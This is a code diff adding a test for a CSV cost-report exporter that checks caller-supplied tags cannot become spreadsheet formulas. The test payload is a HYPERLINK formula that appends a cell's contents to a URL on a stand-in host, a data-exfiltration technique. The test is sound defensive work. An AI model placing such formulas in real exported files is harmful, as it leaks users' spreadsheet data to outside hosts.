@@ -84,6 +84,18 @@ test("grouped by a tag, jobs without it are a row of their own, whatever the tag
   expect(csv.split("\r\n").map((text) => text.split(",")[0])).toEqual(["tag:team", "", "a", ""]);
 });
 
+test.each(["=", "+", "-", "@", "\t", "\r", "\n"])(
+  "what a caller's tag says in a CSV is no formula, with %j in front",
+  (sign) => {
+    const team = `${sign}HYPERLINK("https://example.com/?"&B2,"total")`;
+    const rows = costRows([line({ tags: { team }, costPicoUsd: 1n })], ["tag:team"]);
+    const csv = costsCsv(rows, ["tag:team"]);
+    expect(csv).toContain(`\r\n"'${team.replaceAll('"', '""')}",1,`);
+    expect(csv).toMatch(/,-0\.000000000001,/);
+    expect(rows[0]?.["tag:team"]).toBe(team);
+  },
+);
+
 test("a CSV has a line of names, the groups first, and quotes what would break it", () => {
   const rows = costRows([line({ model: 'a,"b"', costPicoUsd: 1n }), line({ key: "" })], ["model", "key"]);
   expect(costsCsv(rows, ["model", "key"])).toBe(
